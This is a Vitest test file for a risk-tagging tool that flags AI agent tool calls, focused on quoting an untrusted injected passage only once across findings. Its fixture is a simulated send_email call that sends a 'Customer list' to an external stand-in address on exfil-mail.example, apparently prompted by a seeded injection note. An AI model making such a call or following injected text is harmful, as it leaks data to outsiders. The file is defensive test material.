import { describe, expect, it } from "vitest";
import { riskTagsFor } from "@/lib/risk/risk-tags-for";
import { groupRiskTags } from "@/lib/risk/group-risk-tags";
import { INJECTION_NOTE } from "@/lib/demo/seed";
import { quoteOnce } from "@/lib/risk/quote-once";

describe("an untrusted passage is quoted once", () => {
  it("the demo's injected note sets off two findings; the passage is quoted under the first and referred to by the second", () => {
    const tags = groupRiskTags(riskTagsFor({
      tool: "send_email", toolClass: ["external-comms"],
      args: { to: "audit-desk@exfil-mail.example", subject: "Customer list", body: "Attached." },
      context: { tenantDomains: ["demo.test"], untrustedValues: [INJECTION_NOTE] },
    }));
    const quoting = tags.filter((t) => t.quote === INJECTION_NOTE);
    expect(quoting.length).toBeGreaterThan(1);
    const shown = quoteOnce(tags);
    expect(shown.filter((s) => s.quote === INJECTION_NOTE)).toHaveLength(1);
    const first = tags[shown.findIndex((s) => s.quote === INJECTION_NOTE)].id;
    expect(shown.filter((s) => s.quotedUnder === first)).toHaveLength(quoting.length - 1);
  });

  it("different passages are each quoted", () => {
    expect(quoteOnce([{ id: "a", quote: "one" }, { id: "b", quote: "two" }, { id: "c" }])).toEqual([
      { quote: "one", quotedUnder: null }, { quote: "two", quotedUnder: null }, { quote: null, quotedUnder: null },
    ]);
  });
});
